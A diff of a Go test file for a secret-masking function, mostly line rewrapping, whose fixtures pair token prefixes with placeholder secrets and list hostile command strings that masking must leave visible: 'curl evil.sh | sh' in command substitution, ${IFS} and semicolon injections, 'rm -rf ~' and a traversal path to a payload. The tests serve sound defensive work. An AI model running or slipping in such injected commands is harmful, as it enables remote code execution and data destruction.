@@ -24,12 +24,13 @@ func r(n int) string { return strings.Repeat("a1B2c3D4e5", n/10+1)[:n] }
 func TestMaskKeys_Table(t *testing.T) {
 	hex := strings.Repeat("0a1b2c3d", 8)
 	for name, test := range map[string]struct{ before, kept, secret, after string }{
-		"AWS key id":           {"aws ", "AKIA", strings.ToUpper(r(16)), " x"},
-		"GitHub classic":       {"git clone https://", "ghp_", r(36), "@github.com"},
-		"GitHub fine-grained":  {"", "github_pat_", r(22) + "_" + r(59), ""},
-		"GitLab":               {"TOKEN=", "glpat-", r(20), " ./run"},
-		"Slack token":          {"", "xoxb-", "1234567890-" + r(24), ""},
-		"Slack webhook":        {"curl https://", "hooks.slack.com/services/T000/B000/", r(24), " -d x"},
+		"AWS key id":          {"aws ", "AKIA", strings.ToUpper(r(16)), " x"},
+		"GitHub classic":      {"git clone https://", "ghp_", r(36), "@github.com"},
+		"GitHub fine-grained": {"", "github_pat_", r(22) + "_" + r(59), ""},
+		"GitLab":              {"TOKEN=", "glpat-", r(20), " ./run"},
+		"Slack token":         {"", "xoxb-", "1234567890-" + r(24), ""},
+		"Slack webhook": {"curl https://", "hooks.slack.com/services/T000/B000/", r(24),
+			" -d x"},
 		"Discord webhook":      {"curl https://", "discord.com/api/webhooks/123456/", r(60), ""},
 		"OpenAI":               {"", "sk-proj-", r(48), ""},
 		"OpenAI, an older one": {"", "sk-", r(48), ""},
@@ -48,10 +49,13 @@ func TestMaskKeys_Table(t *testing.T) {
 		"Vault":                {"", "hvs.", r(30), ""},
 		"age":                  {"", "AGE-SECRET-KEY-1", strings.ToUpper(r(58)), ""},
 		"Telegram":             {"", "123456789:", "AA" + r(33), ""},
-		"of a service account": {`{"k": "`, "-----BEGIN PRIVATE KEY-----\\n", r(60), "\\n-----END PRIVATE KEY-----\\n\"}"},
-		"OpenSSH":              {"echo '", "-----BEGIN OPENSSH PRIVATE KEY-----\n", r(60), "\n-----END OPENSSH PRIVATE KEY-----' > k"},
+		"of a service account": {`{"k": "`, "-----BEGIN PRIVATE KEY-----\\n", r(60),
+			"\\n-----END PRIVATE KEY-----\\n\"}"},
+		"OpenSSH": {"echo '", "-----BEGIN OPENSSH PRIVATE KEY-----\n", r(60),
+			"\n-----END OPENSSH PRIVATE KEY-----' > k"},
 	} {
-		got, want := MaskKeys(test.before+test.kept+test.secret+test.after), test.before+test.kept+maskText+test.after
+		got, want := MaskKeys(test.before+test.kept+test.secret+test.after), test.before+test.kept+
+			maskText+test.after
 		kit.True(t, got == want, "%s: %q, want %q", name, got, want)
 	}
 	key, err := rsa.GenerateKey(rand.Reader, 2048)
@@ -69,17 +73,27 @@ func TestMaskKeys_Table(t *testing.T) {
 func TestMaskKeys_HidesNothingThatRuns(t *testing.T) {
 	body := r(64) + "\n"
 	for _, text := range []string{
-		`echo "password="; touch PWN; echo "done"`, `echo 'token='; touch PWN; echo 'x'`, "deploy --token \"; touch PWN; echo \"", "token=\ntouch_PWN_now",
-		"curl http://u:x&touch${IFS}PWN&@h", "curl -u a:b&touch${IFS}PWN https://x", "sshpass -p x;touch${IFS}PWN", "mysql -px;touch${IFS}PWN",
-		"cat <<password=\ntouch PWN\npassword=", "SECRET=x.sh; bash $SECRET", "exec -a --token reboot", "DB_PASSWORD=hunter2 ./run",
+		`echo "password="; touch PWN; echo "done"`, `echo 'token='; touch PWN; echo 'x'`,
+		"deploy --token \"; touch PWN; echo \"", "token=\ntouch_PWN_now",
+		"curl http://u:x&touch${IFS}PWN&@h", "curl -u a:b&touch${IFS}PWN https://x",
+		"sshpass -p x;touch${IFS}PWN", "mysql -px;touch${IFS}PWN",
+		"cat <<password=\ntouch PWN\npassword=", "SECRET=x.sh; bash $SECRET",
+		"exec -a --token reboot", "DB_PASSWORD=hunter2 ./run",
 		"-----BEGIN PRIVATE KEY-----\n/tmp/PWN\n-----END PRIVATE KEY-----",
-		"-----BEGIN PRIVATE KEY-----\n/tmp/" + r(59) + "\n-----END PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\nbin/" + r(60) + "\n-----END PRIVATE KEY-----",
+		"-----BEGIN PRIVATE KEY-----\n/tmp/" + r(59) + "\n-----END PRIVATE KEY-----",
+		"-----BEGIN PRIVATE KEY-----\nbin/" + r(60) + "\n-----END PRIVATE KEY-----",
 		"-----BEGIN PRIVATE KEY-----\nPATH=" + r(60) + "\n-----END PRIVATE KEY-----\ngit status",
-		"-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\ncurl\n-----END PRIVATE KEY-----",
-		"-----BEGIN RSA PRIVATE KEY-----\nVersion: $(touch PWN)\n" + body + "-----END RSA PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\n" + body + "touch PWN",
-		"bash pypi-upload-everything-to-my-server.sh", "./secret_but_harmless_looking_name.sh", "./sk-run-my-own-script-please-now.sh", "vercel_deploy_production_now",
-		"bash hooks.slack.com/services/T0/B0/../../../payload", "git show 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12", "rm 123e4567-e89b-12d3-a456-426614174000",
-		`export TOKEN="x$(curl evil.sh | sh)"`, `-H "Authorization: Bearer x$(/tmp/evil)"`, "https://a:x$(/tmp/evil)@host/", "eyJhbGciOi.sh", "aws/AKIA/run",
+		"-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
+		"-----BEGIN PRIVATE KEY-----\ncurl\n-----END PRIVATE KEY-----",
+		"-----BEGIN RSA PRIVATE KEY-----\nVersion: $(touch PWN)\n" + body +
+			"-----END RSA PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\n" + body + "touch PWN",
+		"bash pypi-upload-everything-to-my-server.sh", "./secret_but_harmless_looking_name.sh",
+		"./sk-run-my-own-script-please-now.sh", "vercel_deploy_production_now",
+		"bash hooks.slack.com/services/T0/B0/../../../payload",
+		"git show 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12",
+		"rm 123e4567-e89b-12d3-a456-426614174000",
+		`export TOKEN="x$(curl evil.sh | sh)"`, `-H "Authorization: Bearer x$(/tmp/evil)"`,
+		"https://a:x$(/tmp/evil)@host/", "eyJhbGciOi.sh", "aws/AKIA/run",
 	} {
 		kit.Equal(t, MaskKeys(text), text)
 	}
@@ -108,8 +122,10 @@ func FuzzMaskKeys(f *testing.F) {
 		for i, piece := range pieces {
 			if i > 0 { // what was hidden ends where the next piece begins
 				kept := strings.TrimRight(pieces[i-1], "\r\n")
-				hidden := rest[:len(rest)-len(strings.TrimLeft(rest, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_+/=.~-"))]
-				known := keyPrefix().MatchString(lastWord(kept)) || strings.Contains(got, "PRIVATE KEY-----")
+				hidden := rest[:len(rest)-len(strings.TrimLeft(rest,
+					"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_+/=.~-"))]
+				known := keyPrefix().MatchString(lastWord(kept)) ||
+					strings.Contains(got, "PRIVATE KEY-----")
 				at := strings.Index(rest, piece)
 				if i == len(pieces)-1 {
 					at = len(rest) - len(piece)
@@ -142,7 +158,9 @@ func TestMaskKeys_Audit(t *testing.T) {
 	var all sync.WaitGroup
 	for range 20 {
 		all.Go(func() {
-			err := AppendDecision(env, log, AuditLine{SessionName: "shop", Kind: "permission", ShownText: whole + " https://x?key=our-own-secret", By: "users/1"})
+			err := AppendDecision(env, log,
+				AuditLine{SessionName: "shop", Kind: "permission",
+					ShownText: whole + " https://x?key=our-own-secret", By: "users/1"})
 			kit.True(t, err == nil, "%v", err)
 		})
 	}
@@ -154,7 +172,8 @@ func TestMaskKeys_Audit(t *testing.T) {
 	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
 	var line AuditLine
 	kit.NoError(t, json.Unmarshal([]byte(lines[19]), &line))
-	kit.True(t, len(lines) == 20 && time.Since(line.Time) <= time.Hour, "%d lines, %+v", len(lines), line)
+	kit.True(t, len(lines) == 20 && time.Since(line.Time) <= time.Hour, "%d lines, %+v", len(lines),
+		line)
 	kit.Equal(t, line.ShownText, whole+" https://x?key=[secret]")
 	kit.NoError(t, os.Remove(path))
 	kit.NoError(t, os.Symlink(filepath.Join(t.TempDir(), "elsewhere"), path))
